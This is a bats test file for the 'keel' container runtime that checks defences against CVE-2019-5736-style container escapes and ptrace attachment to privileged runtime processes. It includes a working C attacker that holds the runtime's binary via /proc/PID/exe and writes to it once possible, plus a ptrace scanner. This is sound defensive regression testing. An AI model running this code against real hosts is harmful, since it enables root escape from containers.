#!/usr/bin/env bats
# CVE-2019-5736's class: a process in the container reaches keel's own
# binary through /proc/<pid>/exe (of keel's init while it waits for start,
# of keel's exec helper, or of a script whose interpreter is
# /proc/self/exe, which the kernel resolves to keel's binary while keel
# execs it), keeps it open and writes it once keel has exited: every later
# keel call on the host then runs the container's code as root.
#
# Each test runs a copy of $KEEL (so a successful attack damages the copy,
# not the build) and checks the copy is unchanged; the attack appends a
# marker, so keel keeps working for the cleanup even when it succeeded.
# The attacker is tests' exe-attack (C, below), run inside the container.

load ../lib
load ../lifecycle/common

setup_file() {
        lc_setup_file || return
        require_cmd gcc gcc || return
        exe_attack_build "$BATS_FILE_TMPDIR/exe-attack"
}

setup() {
        lc_setup
        C=sec-$$-${BATS_TEST_NUMBER:-0}
        cp "$KEEL" "$TEST_DIR/keel"
        KEEL=$TEST_DIR/keel
        sha256sum "$KEEL" >"$TEST_DIR/keel.sum"
}

teardown() {
        lc_teardown
}

# exe_attack_build OUT: the attacker, static (the rootfs has no libc).
#   exe-attack open PID       opens /proc/PID/exe and /proc/PID/mem every way,
#                             one "what: ok" or "what: errno NAME" line each
#   exe-attack scan SECONDS   opens (O_PATH) the exe of every other process
#                             that appears; one whose file our root cannot
#                             name (the runtime's binary on the host) is held
#                             ("held: PATH") and reopened for writing through
#                             /proc/self/fd until the kernel allows it
#                             (ETXTBSY while the binary runs), then a marker
#                             is appended ("write: ok")
#   exe-attack protect PID    how /proc/PID/exe is protected: "rdonly: yes|no"
#                             (its mount) and "seals: write,seal|other|ERRNO"
#   exe-attack ptrace SECONDS PTRACE_SEIZEs every process that appears and
#                             reports those whose effective capabilities
#                             exceed ours ("attached-caps: ...") or whose
#                             binary is outside our root ("attached-exe: ...")
exe_attack_build() {
        cat >"$1.c" <<-'EOF'
	#define _GNU_SOURCE
	#include <dirent.h>
	#include <errno.h>
	#include <fcntl.h>
	#include <stdio.h>
	#include <stdlib.h>
	#include <string.h>
	#include <sys/ptrace.h>
	#include <sys/stat.h>
	#include <sys/statvfs.h>
	#include <sys/wait.h>
	#include <time.h>
	#include <unistd.h>

	#define MARK "keel-sec-5736\n"

	static double now(void)
	{
		struct timespec ts;

		clock_gettime(CLOCK_MONOTONIC, &ts);
		return ts.tv_sec + ts.tv_nsec / 1e9;
	}

	static const char *err_name(int e)
	{
		const char *n = strerrorname_np(e);

		return n ? n : "UNKNOWN";
	}

	static void try_open(const char *what, const char *path, int flags)
	{
		int fd = open(path, flags | O_CLOEXEC);

		if (fd < 0) {
			printf("%s: errno %s\n", what, err_name(errno));
			return;
		}
		printf("%s: ok\n", what);
		close(fd);
	}

	static int cmd_open(const char *pid)
	{
		char path[64], target[4096];

		snprintf(path, sizeof(path), "/proc/%s/exe", pid);
		if (readlink(path, target, sizeof(target)) < 0)
			printf("readlink: errno %s\n", err_name(errno));
		else
			printf("readlink: ok\n");
		try_open("open_path", path, O_PATH);
		try_open("open_rdonly", path, O_RDONLY);
		try_open("open_wronly", path, O_WRONLY | O_APPEND);
		snprintf(path, sizeof(path), "/proc/%s/mem", pid);
		try_open("open_mem", path, O_RDONLY);
		return 0;
	}

	/* A file our root cannot name: the path the kernel gives for it does
	 * not exist here, or is another inode. */
	static int outside_root(int fd, char *target, size_t size)
	{
		char link[64];
		struct stat a, b;
		ssize_t n;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, size - 1);
		if (n < 0 || fstat(fd, &a) < 0)
			return 0;
		target[n] = '\0';
		if (stat(target, &b) < 0)
			return 1;
		return a.st_dev != b.st_dev || a.st_ino != b.st_ino;
	}

	static int next_pid(DIR *d, int self)
	{
		struct dirent *e;

		while ((e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);

			if (pid > 0 && pid != self)
				return pid;
		}
		return 0;
	}

	static int hold_exe(int self)
	{
		char path[64], target[4096];
		DIR *d = opendir("/proc");
		int pid, held = -1;

		if (d == NULL)
			exit(1);
		while (held < 0 && (pid = next_pid(d, self)) > 0) {
			int fd;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			if (outside_root(fd, target, sizeof(target))) {
				printf("held: %s\n", target);
				held = fd;
			} else {
				close(fd);
			}
		}
		closedir(d);
		return held;
	}

	static int cmd_scan(double secs)
	{
		double end = now() + secs;
		int held = -1;
		char path[64];

		printf("scan: ready\n");
		while (now() < end) {
			int w;

			if (held < 0) {
				held = hold_exe(getpid());
				continue;
			}
			snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
			w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (w >= 0) {
				printf("write: %s\n", write(w, MARK, strlen(MARK)) > 0 ? "ok" : "failed");
				return 0;
			}
			if (errno != ETXTBSY) {
				printf("write: errno %s\n", err_name(errno));
				return 0;
			}
		}
		printf("write: %s\n", held >= 0 ? "timeout" : "nothing held");
		return 0;
	}

	static unsigned long long cap_eff(int pid)
	{
		char path[64], line[256];
		unsigned long long v = 0;
		FILE *f;

		snprintf(path, sizeof(path), "/proc/%d/status", pid);
		f = fopen(path, "re");
		if (f == NULL)
			return 0;
		while (fgets(line, sizeof(line), f))
			if (sscanf(line, "CapEff: %llx", &v) == 1)
				break;
		fclose(f);
		return v;
	}

	static int foreign_exe(int pid)
	{
		char path[64], target[4096];
		int fd, r;

		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			return 0;
		r = outside_root(fd, target, sizeof(target));
		close(fd);
		return r;
	}

	static int cmd_ptrace(double secs)
	{
		static char seen[1 << 16];
		double end = now() + secs;
		int self = getpid();
		unsigned long long mine = cap_eff(self);

		printf("ptrace: ready\n");
		while (now() < end) {
			DIR *d = opendir("/proc");
			int pid;

			if (d == NULL)
				return 1;
			while ((pid = next_pid(d, self)) > 0) {
				unsigned long long theirs;

				if (pid >= (int) sizeof(seen) || seen[pid])
					continue;
				seen[pid] = 1;
				if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
					continue;
				theirs = cap_eff(pid);
				if (theirs & ~mine)
					printf("attached-caps: pid %d CapEff %016llx, ours %016llx\n", pid,
					       theirs, mine);
				else if (foreign_exe(pid))
					printf("attached-exe: pid %d runs a binary outside our root\n", pid);
				/* Detaching needs a stopped tracee. */
				if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0)
					waitpid(pid, NULL, __WALL);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
			closedir(d);
		}
		printf("ptrace: done\n");
		return 0;
	}

	static int cmd_protect(const char *pid)
	{
		char path[64];
		struct statvfs sv;
		int fd, seals;

		snprintf(path, sizeof(path), "/proc/%s/exe", pid);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0) {
			printf("open: errno %s\n", err_name(errno));
			return 1;
		}
		seals = fcntl(fd, F_GET_SEALS);
		printf("rdonly: %s\n", fstatvfs(fd, &sv) == 0 && (sv.f_flag & ST_RDONLY) ? "yes" : "no");
		printf("seals: %s\n", seals < 0 ? err_name(errno) : (seals & (F_SEAL_WRITE | F_SEAL_SEAL)) == (F_SEAL_WRITE | F_SEAL_SEAL) ? "write,seal" : "other");
		return 0;
	}

	int main(int argc, char **argv)
	{
		setvbuf(stdout, NULL, _IOLBF, 0);
		if (argc == 3 && strcmp(argv[1], "open") == 0)
			return cmd_open(argv[2]);
		if (argc == 3 && strcmp(argv[1], "protect") == 0)
			return cmd_protect(argv[2]);
		if (argc == 3 && strcmp(argv[1], "scan") == 0)
			return cmd_scan(atof(argv[2]));
		if (argc == 3 && strcmp(argv[1], "ptrace") == 0)
			return cmd_ptrace(atof(argv[2]));
		fprintf(stderr, "usage: exe-attack open PID | protect PID | scan SECONDS | ptrace SECONDS\n");
		return 2;
	}
	EOF
        gcc -static -O2 -Wall -Wextra -Werror -o "$1" "$1.c"
}

# attack_bundle ARGS...: $B running ARGS, with the attacker at /exe-attack,
# /evil a script whose interpreter is /proc/self/exe, and the loader and
# libraries keel's binary needs at their paths: a glibc image has them, and
# without them the kernel cannot run keel's binary in the container (ENOENT
# for the loader), which would hide the hole rather than close it.
attack_bundle() {
        local lib
        make_bundle "$B" "$@" || return
        cp "$BATS_FILE_TMPDIR/exe-attack" "$B/rootfs/exe-attack"
        printf '#!/proc/self/exe\n' >"$B/rootfs/evil"
        chmod 755 "$B/rootfs/evil"
        for lib in $(ldd "$KEEL" 2>/dev/null | grep -o '/[^ ]*'); do
                mkdir -p "$B/rootfs$(dirname "$lib")"
                cp -L "$lib" "$B/rootfs$lib" || return
        done
}

# sibling_bundle ARGS...: $TEST_DIR/bundle2, an attack bundle running ARGS
# in the pid namespace of the running container $C (a pod sharing one).
sibling_bundle() {
        local pid
        pid=$(state_of "$C" .pid) || return
        B=$TEST_DIR/bundle2 attack_bundle "$@" || return
        config_set "$TEST_DIR/bundle2" '.linux.namespaces |= map(if .type == "pid" then .path = $p else . end)' \
                --arg p "/proc/$pid/ns/pid"
}

# ptrace_scanner SECONDS: $C runs the ptrace scanner for SECONDS with
# CAP_SYS_PTRACE added to its sets (no user namespace); once it is ready,
# SCAN names its output.
ptrace_scanner() {
        attack_bundle /exe-attack ptrace "$1" || return
        config_set "$B" '.process.capabilities |= with_entries(.value += ["CAP_SYS_PTRACE"])' || return
        rk_ok run --detach --bundle "$B" "$C" || return
        SCAN=$RK_OUT
        wait_until 10 file_has "$SCAN" '^ptrace: ready'
}

# without_cap_sys_ptrace: prints a wrapper that runs the copy of keel with
# CAP_SYS_PTRACE out of its bounding set (so out of every set).
without_cap_sys_ptrace() {
        require_cmd setpriv util-linux || return
        printf '#!/bin/sh\nexec setpriv --bounding-set -sys_ptrace %q "$@"\n' "$KEEL" >"$TEST_DIR/keel-noptrace"
        chmod 755 "$TEST_DIR/keel-noptrace"
        echo "$TEST_DIR/keel-noptrace"
}

# userns_all_caps: $B gets a user namespace (root is host uid 100000) and
# every capability in its bounding, effective and permitted sets.
userns_all_caps() {
        chmod 755 "$TEST_DIR"
        config_set "$B" '.linux.namespaces += [{type: "user"}]
                | .linux.uidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
                | .linux.gidMappings = [{containerID: 0, hostID: 100000, size: 65536}]
                | .process.capabilities = {bounding: $c, effective: $c, permitted: $c}' \
                --argjson c "$(all_caps)"
}

# all_caps: every capability of this shell's bounding set (what keel can
# give), as a JSON array of names.
all_caps() {
        local names=(CHOWN DAC_OVERRIDE DAC_READ_SEARCH FOWNER FSETID KILL SETGID SETUID
                SETPCAP LINUX_IMMUTABLE NET_BIND_SERVICE NET_BROADCAST NET_ADMIN NET_RAW
                IPC_LOCK IPC_OWNER SYS_MODULE SYS_RAWIO SYS_CHROOT SYS_PTRACE SYS_PACCT
                SYS_ADMIN SYS_BOOT SYS_NICE SYS_RESOURCE SYS_TIME SYS_TTY_CONFIG MKNOD LEASE
                AUDIT_WRITE AUDIT_CONTROL SETFCAP MAC_OVERRIDE MAC_ADMIN SYSLOG WAKE_ALARM
                BLOCK_SUSPEND AUDIT_READ PERFMON BPF CHECKPOINT_RESTORE)
        local bnd i
        bnd=$((16#$(awk '$1 == "CapBnd:" { print $2 }' /proc/self/status)))
        for i in "${!names[@]}"; do
                ((bnd >> i & 1)) && echo "CAP_${names[i]}"
        done | jq -R . | jq -s -c .
}

# keel_unchanged: the copy of keel the test ran is byte for byte the same.
keel_unchanged() {
        if ! sha256sum --quiet -c "$TEST_DIR/keel.sum" >/dev/null 2>&1; then
                echo "keel's binary on the host was modified from inside the container:" >&2
                tail -c 32 "$TEST_DIR/keel" | od -c | head -3 >&2
                return 1
        fi
}

# refute_line FILE REGEX: no line of FILE matches REGEX (extended).  (A bare
# '! grep' does not fail a bats test unless it is the last command.)
refute_line() {
        if grep -qE -- "$2" "$1"; then
                echo "unexpected line in $1: $(grep -E -- "$2" "$1" | head -1)" >&2
                return 1
        fi
}

# assert_init_rdonly ID yes|no: the created init of ID runs keel's binary
# from a read-only mount (the guard re-executed keel) or not.
assert_init_rdonly() {
        local got
        got=$("$BATS_FILE_TMPDIR/exe-attack" protect "$(state_of "$1" .pid)" | head -1)
        [ "$got" = "rdonly: $2" ] || { echo "init of $1: '$got', want 'rdonly: $2'" >&2; return 1; }
}

# scan_done FILE: the scanner reported the end of its attempt.
scan_done() {
        grep -q '^write: ' "$1"
}

@test "exec_of_a_script_naming_proc_self_exe_cannot_write_keels_binary" {
        # The original CVE-2019-5736 exploit, through exec: keel's helper
        # execs /evil, the kernel runs /proc/self/exe (the helper's exe:
        # keel's binary) in the container as a dumpable process, the
        # scanner holds its exe and writes it once keel exited.  Fails on a
        # runtime that execs the container's binary from a process whose
        # /proc/self/exe is its own writable binary on the host.
        attack_bundle /exe-attack scan 20
        rk_ok run --detach --bundle "$B" "$C"
        local scan=$RK_OUT i
        wait_until 10 file_has "$scan" '^scan: ready'
        # The evil process lives a millisecond: give the scanner a few draws.
        for i in 1 2 3 4 5; do
                rk exec "$C" /evil
                wait_until 2 scan_done "$scan" 2>/dev/null && break
        done
        wait_until 5 scan_done "$scan" 2>/dev/null || true
        cat "$scan" >&2
        refute_line "$scan" '^write: ok'
        keel_unchanged
}

@test "start_of_a_script_naming_proc_self_exe_cannot_write_keels_binary" {
        # The same through the init: container 1 runs the scanner,
        # container 2 joins its pid namespace (a pod sharing one) with /evil
        # as process.args, so keel's init execs it.  (In a pid namespace of
        # its own, the evil init is pid 1 and its exit kills the scanner
        # before the write: that hides the hole, a sibling does not.)
        # Fails on a runtime whose init execs the container's process while
        # /proc/self/exe is its writable binary on the host.
        attack_bundle /exe-attack scan 20
        rk_ok run --detach --bundle "$B" "$C"
        local scan=$RK_OUT i
        wait_until 10 file_has "$scan" '^scan: ready'
        sibling_bundle /evil
        # The evil init lives a millisecond: give the scanner a few draws.
        for i in 1 2 3 4 5; do
                rk run --bundle "$TEST_DIR/bundle2" "${C}b$i"
                wait_until 2 scan_done "$scan" 2>/dev/null && break
        done
        wait_until 5 scan_done "$scan" 2>/dev/null || true
        cat "$scan" >&2
        refute_line "$scan" '^write: ok'
        keel_unchanged
}

@test "keel_runs_from_a_read_only_mount_of_its_binary_when_it_enters_a_container" {
        # Behind both tests above: create, run and exec re-execute keel from
        # a detached read-only bind mount of its binary (linux/exe-guard.h),
        # so the init waiting for start and every exec helper run a file
        # that no one can write through /proc/PID/exe.  Fails on a runtime
        # whose init runs its writable binary.
        attack_bundle /bin/sleep 100
        rk_ok create --bundle "$B" "$C"
        local pid
        pid=$(state_of "$C" .pid)
        run "$BATS_FILE_TMPDIR/exe-attack" protect "$pid"
        echo "$output"
        [ "$status" -eq 0 ] && [ "${lines[0]}" = "rdonly: yes" ]
        # The re-executed keel is the same binary, and the host's file is
        # untouched and still writable by its owner.
        cmp "/proc/$pid/exe" "$KEEL"
        run "$BATS_FILE_TMPDIR/exe-attack" protect $$
        [ "${lines[0]}" = "rdonly: no" ]
        keel_unchanged
}

# early_guard_built: static keel on x86-64 has the guard's first step as
# its entry point (libkeel/linux/exe-guard-early.c); other builds skip its tests.
early_guard_built() {
        nm "$KEEL" 2>/dev/null | grep -q ' T keel_entry$'
}

@test "a_plain_create_is_re_executed_before_libc_starts" {
        # The first of the guard's two execs does no more than re-execute:
        # libkeel/linux/exe-guard-early.c, before libc, so glibc starts once.  The log
        # shows one keel instead of two, and the init is protected as
        # always.  Fails on a keel whose early step lets this create
        # through to main, or re-executes from a writable binary.
        early_guard_built || skip "keel built without the early guard (not static x86-64)"
        attack_bundle /bin/sleep 100
        rk_ok --debug --log "$TEST_DIR/create.log" create --bundle "$B" "$C"
        grep -q "re-executed from a read-only mount before libc started" "$TEST_DIR/create.log"
        [ "$(grep -c 'create: keel .* (commit' "$TEST_DIR/create.log")" -eq 1 ]
        assert_init_rdonly "$C" yes
        keel_unchanged
}

@test "an_option_the_early_guard_does_not_know_leaves_the_guard_to_main" {
        # --config names another file than the bundle's config.json: the
        # early step does not read it and returns to main, which reads the
        # right one and re-executes (two keels in the log, the init still
        # protected).  Fails on a keel whose early step decides on the
        # bundle's config.json when another is given.
        early_guard_built || skip "keel built without the early guard (not static x86-64)"
        attack_bundle /bin/sleep 100
        cp "$B/config.json" "$TEST_DIR/other.json"
        rk_ok --debug --log "$TEST_DIR/create.log" create --bundle "$B" \
                --config "$TEST_DIR/other.json" "$C"
        ! grep -q "before libc started" "$TEST_DIR/create.log"
        [ "$(grep -c 'create: keel .* (commit' "$TEST_DIR/create.log")" -eq 2 ]
        assert_init_rdonly "$C" yes
}

@test "created_init_is_not_dumpable" {
        # Between create and start the init is keel's binary, in the
        # container's pid namespace.  The kernel lets a process of the same
        # uid open another's /proc/PID/exe and mem when its capabilities
        # cover the other's and the other is dumpable: here keel itself runs
        # without CAP_SYS_PTRACE (as when nested in a container) and the
        # container has every other capability, so only PR_SET_DUMPABLE 0
        # keeps the container from keel's binary (for the write above) and
        # the init's memory (CVE-2016-9962's class).  Fails on a runtime
        # whose init is dumpable.
        attack_bundle /bin/true
        config_set "$B" '.process.capabilities = {bounding: $c, effective: $c, permitted: $c}' \
                --argjson c "$(all_caps | jq -c 'map(select(. != "CAP_SYS_PTRACE"))')"
        KEEL=$(without_cap_sys_ptrace) rk_ok create --bundle "$B" "$C"
        # exec's own helper has every capability: it may join the init.
        rk_ok exec "$C" /exe-attack open 1
        [ "$(checker_value "$output" readlink)" = "errno EACCES" ]
        [ "$(checker_value "$output" open_path)" = "errno EACCES" ]
        [ "$(checker_value "$output" open_wronly)" = "errno EACCES" ]
        [ "$(checker_value "$output" open_mem)" = "errno EACCES" ]
        keel_unchanged
}

@test "exec_helper_cannot_be_ptraced_by_the_container" {
        # keel's exec process is in the container's pid namespace, running
        # keel's binary, from its fork until it execs.  In a user namespace
        # the container's root has every capability it has there: only its
        # not being dumpable stops PTRACE_SEIZE.  Fails on a runtime whose
        # exec helper is dumpable.
        attack_bundle /exe-attack ptrace 15
        userns_all_caps
        rk_ok run --detach --bundle "$B" "$C"
        local scan=$RK_OUT i
        wait_until 10 file_has "$scan" '^ptrace: ready'
        for i in $(seq 10); do
                rk_ok exec "$C" /bin/true
        done
        cat "$scan" >&2
        refute_line "$scan" '^attached'
}

@test "exec_helper_cannot_be_ptraced_by_a_container_with_cap_sys_ptrace" {
        # The same with CAP_SYS_PTRACE in the container's sets (no user
        # namespace): the kernel lets a CAP_SYS_PTRACE holder attach to a
        # non-dumpable process, so dumpability does not protect the helper
        # here.  What must not happen: the container attaches to a helper
        # holding capabilities the container lacks (it would act with them:
        # CAP_SYS_ADMIN in the host's user namespace is an escape).  keel's
        # helper takes the process's user, capabilities and seccomp filter
        # outside the container's pid namespace and only then forks into
        # it.  Fails on a runtime whose exec helper enters the pid
        # namespace before it drops capabilities (runc's and crun's do).
        ptrace_scanner 15
        local i
        for i in $(seq 10); do
                rk_ok exec "$C" /bin/true
        done
        cat "$SCAN" >&2
        refute_line "$SCAN" '^attached-caps:'
}

@test "created_init_cannot_be_ptraced_into_keels_capabilities" {
        # Between create and start, an exec'd process with CAP_SYS_PTRACE
        # (no user namespace) can attach to the waiting init whatever its
        # dumpability.  The init has taken the container's user and
        # capabilities before it waits (as runc's does before its exec
        # fifo), so the attacker finds nothing beyond its own rights.
        # Fails on a runtime whose init waits for start with every
        # capability (attaching to it is an escape: CAP_SYS_ADMIN in the
        # host's user namespace).
        attack_bundle /bin/true
        rk_ok create --bundle "$B" "$C"
        rk_ok exec --cap CAP_SYS_PTRACE "$C" /exe-attack ptrace 1
        echo "$output" >"$TEST_DIR/scan"
        cat "$TEST_DIR/scan" >&2
        grep -q '^ptrace: done' "$TEST_DIR/scan"
        # The scanner did reach the init (it runs keel's binary).
        grep -q '^attached-exe: pid 1 ' "$TEST_DIR/scan"
        refute_line "$TEST_DIR/scan" '^attached-caps:'
}

@test "init_joining_a_pid_namespace_cannot_be_ptraced_into_keels_capabilities" {
        # A pod sharing one pid namespace: container 1, given CAP_SYS_PTRACE
        # without a user namespace, watches for new processes; container 2
        # joins its pid namespace, so keel's init for it is visible there
        # from its fork, while it still mounts the rootfs with every
        # capability.  Attaching then is an escape (the init's mount
        # namespace is still a copy of the host's).  Fails on a runtime
        # whose init can be attached to by another process before it has
        # become the container's process.
        ptrace_scanner 20
        sibling_bundle /bin/true
        local i
        for i in $(seq 10); do
                rk_ok run --bundle "$TEST_DIR/bundle2" "${C}b$i"
        done
        cat "$SCAN" >&2
        refute_line "$SCAN" '^attached-caps:'
}

@test "init_joining_a_pid_namespace_under_a_tracer_runs_with_a_warning" {
        # Where keel may not trace its own stage 1 (here keel is traced
        # already: a process has one tracer; elsewhere a Yama policy), the
        # init cannot be guarded.  keel says so and the container still
        # runs, as it does with runc and crun, and nothing is left behind.
        # Fails on a keel that fails (or hangs) without the guard, or that
        # goes on silently.
        require_cmd strace strace
        attack_bundle /bin/sleep 100
        rk_ok run --detach --bundle "$B" "$C"
        sibling_bundle /bin/true
        printf '#!/bin/sh\nexec strace -f -qq -o /dev/null %q "$@"\n' "$KEEL" >"$TEST_DIR/keel-traced"
        chmod 755 "$TEST_DIR/keel-traced"
        KEEL=$TEST_DIR/keel-traced rk_ok run --bundle "$TEST_DIR/bundle2" "${C}b"
        grep -q "level=warning msg=\"create ${C}b: ptrace stage 1 .*could attach to the init" "$RK_ERR"
        # run deleted it on exit: no state, no process left.
        [ ! -e "$ROOT/${C}b" ]
        [ -z "$(pgrep -f "keel.*${C}b")" ]
}

# The guard's skip rule (keel_exe_guard_needed_for_create, keel.h): a
# container with a user namespace of its own that maps no owner of keel's
# binary, which only its owner may write, cannot write it whatever its
# capabilities, and keel does not re-execute itself for it.

@test "userns_mapping_no_owner_of_keel_skips_the_guard_and_still_cannot_write_keel" {
        # Fails on a keel that skips the guard for a container that can
        # write its binary (the write succeeds), or that never skips it (the
        # created init runs from a read-only mount).
        attack_bundle /exe-attack scan 20
        userns_all_caps
        rk_ok create --bundle "$B" "${C}i"
        assert_init_rdonly "${C}i" no
        rk_ok delete --force "${C}i"

        rk_ok run --detach --bundle "$B" "$C"
        local scan=$RK_OUT i
        wait_until 10 file_has "$scan" '^scan: ready'
        for i in 1 2 3 4 5; do
                rk exec "$C" /evil
                wait_until 2 scan_done "$scan" 2>/dev/null && break
        done
        wait_until 5 scan_done "$scan" 2>/dev/null || true
        cat "$scan" >&2
        # Held, and refused by the file's permissions (not EROFS: no guard).
        grep -q '^held: ' "$scan"
        grep -q '^write: errno EACCES' "$scan"
        keel_unchanged
}

@test "userns_mapping_keels_owner_keeps_the_guard" {
        # The container's root is the host's root (the binary's owner): the
        # skip rule does not apply.  Fails on a keel that skips it.
        attack_bundle /bin/sleep 100
        userns_all_caps
        config_set "$B" '.linux.uidMappings = [{containerID: 0, hostID: 0, size: 65536}]'
        rk_ok create --bundle "$B" "$C"
        assert_init_rdonly "$C" yes
}

@test "userns_type_spelt_with_escapes_keeps_the_guard" {
        # The rule looks for the JSON value "user" before it parses the
        # config (process.user, a key, does not count): spelt "\u0075ser"
        # the value is missed and the guard stays, the safe answer, as
        # keel.h says.  Fails on a keel that parses every config for the
        # rule (it would skip the guard here) or whose look-up misses a
        # plain "user" (then the first test of this group fails).
        attack_bundle /bin/sleep 100
        userns_all_caps
        python3 - "$B/config.json" <<'PY'
import json, sys
path = sys.argv[1]
text = json.dumps(json.load(open(path)), indent=1)
assert '"type": "user"' in text
open(path, "w").write(text.replace('"type": "user"', '"type": "\\u0075ser"'))
PY
        refute_line "$B/config.json" '"user"[[:space:]]*[^:[:space:]]'
        rk_ok create --bundle "$B" "$C"
        assert_init_rdonly "$C" yes
        [ "$(state_of "$C" .status)" = created ]
}

@test "userns_keeps_the_guard_for_a_group_writable_keel" {
        # Group write: the container's processes may hold a host group
        # (setgroups denied keeps them).  Fails on a keel that skips it.
        chmod g+w "$KEEL"
        attack_bundle /bin/sleep 100
        userns_all_caps
        rk_ok create --bundle "$B" "$C"
        assert_init_rdonly "$C" yes
}

@test "joined_userns_keeps_the_guard" {
        # A joined user namespace's mappings are not in the config: the
        # guard, always.  Fails on a keel that skips it.
        attack_bundle /bin/sleep 100
        userns_all_caps
        rk_ok run --detach --bundle "$B" "${C}a"
        config_set "$B" '.linux.namespaces |= map(if .type == "user" then .path = $p else . end)
                | del(.linux.uidMappings, .linux.gidMappings)' \
                --arg p "/proc/$(state_of "${C}a" .pid)/ns/user"
        rk_ok create --bundle "$B" "$C"
        assert_init_rdonly "$C" yes
}

@test "exec_into_a_userns_container_mapping_no_owner_of_keel_skips_the_guard" {
        # exec reads the container's config copy: the same rule.  The exec
        # helper's exe is seen through the process it starts (sleep keeps
        # the helper's pid).  Fails on a keel whose exec re-executes anyway.
        attack_bundle /bin/sleep 100
        userns_all_caps
        rk_ok run --detach --bundle "$B" "$C"
        rk_ok --debug --log "$TEST_DIR/exec.log" exec --detach "$C" /bin/sleep 5
        grep -q "out of the container's reach" "$TEST_DIR/exec.log"
        [ "$(grep -c 'exec: keel .* (commit' "$TEST_DIR/exec.log")" -eq 1 ]
}
